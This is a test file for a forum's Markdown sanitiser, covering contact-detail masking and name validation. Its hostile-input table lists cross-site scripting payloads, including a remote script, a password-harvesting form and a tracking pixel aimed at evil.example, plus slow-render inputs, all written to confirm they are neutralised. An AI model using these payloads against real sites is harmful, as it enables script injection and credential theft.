// Members' Markdown: every line of the table is harmless when shown, and is rendered at once.
import { expect, test } from 'vitest';
import { FORUM_HIDDEN, maskPost } from '@live-oak/contract/features/forum/masking.ts';
import { forumName } from '@live-oak/contract/features/forum/names.ts';
import { cleanText, htmlOf, HTML_VERSION, renderStored, renderPost } from './markdown.ts';

const MOST = 10_000;
const HOSTILE: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script in capitals': '<SCRIPT SRC=//evil.example></SCRIPT>',
  handler: '<img src=x onerror=alert(1)>',
  svg: '<svg/onload=alert(1)>',
  frame: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  style: '<style>*{display:none}</style><p style="position:fixed">x</p>',
  form: '<form action=//evil.example><input name=password></form>',
  'javascript link': '[press](javascript:alert(1))',
  'javascript in capitals': '[press](JaVaScRiPt:alert(1))',
  'javascript with a tab': '[press](java\tscript:alert(1))',
  'javascript in entities': '[press](&#106;&#97;vascript&colon;alert(1))',
  'javascript in angles': '<javascript:alert(1)>',
  'javascript by reference': '[press]\n\n[press]: javascript:alert(1)',
  vbscript: '[press](vbscript:msgbox(1))',
  'data link': '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data picture': '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  'file link': '[press](file:///etc/passwd)',
  picture: '![track](https://evil.example/pixel.gif)',
  'protocol-relative': '[press](//evil.example)',
  'relative link': '[press](/api/auth/logout)',
  'title that breaks out': '[x](https://a.example "a\\" onmouseover=alert(1) b=\\"")',
  'address that breaks out': '[x](https://a.example/"onmouseover="alert(1))',
  'code fence with a class': '```js" onload="alert(1)\nx\n```',
  'broken entities': '&lt;script&gt; &#x3c;script&#x3e; &#0; &#xD800; &notanentity; &#99999999;',
  'right to left': 'safe \u202Egpj.exe',
  'zero width': 'java\u200Bscript\uFEFF:',
  zalgo: `a${'\u0301'.repeat(500)}`,
};
const ALLOWED =
  /^<\/?(?:p|br|strong|em|s|a|ul|ol|li|blockquote|code|pre|h3|h4|hr|table|thead|tbody|tr|th|td)(?: href="https?:\/\/[^"<>]*")?(?: rel="nofollow ugc noopener")?(?: start="\d+")?\s*\/?>$/;

test.each(Object.entries(HOSTILE))('%s is harmless', (_name, typed) => {
  const { html } = renderPost(cleanText(typed));
  for (const tag of html.match(/<[^>]*>/g) ?? []) expect(tag).toMatch(ALLOWED);
  expect(html).not.toMatch(/[\u202A-\u202E\u200B\uFEFF]/u);
  expect(html).not.toMatch(/\p{M}{5}/u);
});

const ENDLESS: Record<string, string> = {
  quotes: '>'.repeat(MOST),
  'quotes with spaces': `${'> '.repeat(4999)}x`,
  lists: Array.from({ length: 130 }, (_, i) => `${' '.repeat(i)}- a`).join('\n'),
  brackets: '['.repeat(MOST),
  links: '[a]('.repeat(2500),
  emphasis: '*a **b '.repeat(1400),
  ticks: Array.from({ length: 140 }, (_, i) => '`'.repeat(i)).join('a'),
  entities: '&#'.repeat(MOST / 2),
  angles: '<'.repeat(MOST),
  addresses: 'https://'.repeat(1200),
  brackets2: `http://a.b/${'('.repeat(9000)}`,
  mails: 'a@'.repeat(MOST / 2),
  digits: '1 '.repeat(MOST / 2),
};

test.each(Object.entries(ENDLESS))('10,000 characters of %s take no time', (_name, typed) => {
  renderPost(typed.slice(0, 100));
  const start = process.cpuUsage().user;
  renderPost(maskPost(cleanText(typed)).text);
  // In µs of CPU time, however busy the machine is: tens of milliseconds; a hang takes minutes.
  expect(process.cpuUsage().user - start).toBeLessThan(5_000_000);
});

test('an oversized decompressed file and an unreadable one are refused', () => {
  const table = `${'|a'.repeat(800)}|\n${'|-'.repeat(800)}|\n${'|\n'.repeat(2000)}`;
  expect(() => renderPost(table)).toThrow(/Make it simpler/);
  expect(() => renderStored('>>>')).toThrow(/There is nothing here to read/);
});

test('members’ Markdown is rendered as intended', () => {
  const { html, plain, excerpt } = renderPost(
    '# Big\n\nA **bold** ~~old~~ `cut`, see https://www.lsuagcenter.com\n\n> quoted\n\n1. one\n2. two\n\n|a|b|\n|-|-|\n|1|2|',
  );
  expect(html).toContain('<h3>Big</h3>');
  expect(html).toContain(
    '<a href="https://www.lsuagcenter.com" rel="nofollow ugc noopener">https://www.lsuagcenter.com</a>',
  );
  for (const part of [
    '<strong>bold</strong>',
    '<s>old</s>',
    '<code>cut</code>',
    '<blockquote>',
    '<ol>',
    '<td>1</td>',
  ]) {
    expect(html).toContain(part);
  }
  expect(plain).toBe('Big A bold old cut, see https://www.lsuagcenter.com quoted one two a b 1 2');
  expect(renderPost('oak '.repeat(200)).excerpt).toMatch(/^oak .{200,240}…$/);
  expect(excerpt).toBe(plain);
});

test('a row rendered with older rules is rendered again', () => {
  expect(htmlOf({ body: '*oak*', bodyHtml: '<p>old</p>', htmlVersion: HTML_VERSION })).toBe('<p>old</p>');
  expect(htmlOf({ body: '*oak*', bodyHtml: '<p>old</p>', htmlVersion: HTML_VERSION - 1 })).toBe('<p><em>oak</em></p>');
});

test.each([
  ['Call (225) 555-0142 today', `Call ${FORUM_HIDDEN} today`],
  ['２２５-５５５-０１４２', FORUM_HIDDEN],
  ['renee (at) example (dot) com', FORUM_HIDDEN],
  ['see https://t.me/renee', `see ${FORUM_HIDDEN}`],
  ['call 225&#45;555&#45;0142', `call ${FORUM_HIDDEN}`],
  ['call 22**5**-55**5**-0142', `call ${FORUM_HIDDEN}`],
  ['call [225](https://example.com/a)555 0142', `call [${FORUM_HIDDEN}`],
  ['call 2`2`5=555&#8203;0142', `call ${FORUM_HIDDEN}`],
  ['renee&#64;example&period;com', FORUM_HIDDEN],
  ['renee\\@example\\.com', FORUM_HIDDEN],
  ['[x](https://wa&#46;me/12255550142)', `[x](${FORUM_HIDDEN})`],
  ['225-555-0142 renee&#38;#64;example.com', `${FORUM_HIDDEN} renee&#38;#64;example.com`],
])('%s is hidden', (typed, kept) => {
  expect(maskPost(typed).text).toBe(kept);
});

test.each([
  'https://www.epa.gov/trees/2025550142?x=1',
  'planted 2019-11-21, cut 2026-10-01',
  '70808 70809 70810',
  'trunks of 12, 24 and 36 inches',
  '|12|24|36|48|60|72|',
  'a \\- b, &#42; and &amp;',
  '10\n20\n30\n40\n50\n60',
  '$1,200 or $2,350.00',
])('%s is kept', (typed) => {
  expect(maskPost(typed)).toEqual({ text: typed, hidden: [] });
});

test.each([
  ['Magnolia Fan', true],
  ["O'Neal Jr.", true],
  ['Renée', true],
  ['arborist bob', true],
  ['Live Oak Admin', false],
  ['Certified Arborist', false],
  ['555-0142-225', false],
  ['bob.com', false],
  ['Оак', false],
])('the forum name %s: %s', (name, isFine) => {
  expect(forumName.safeParse(name).success).toBe(isFine);
});
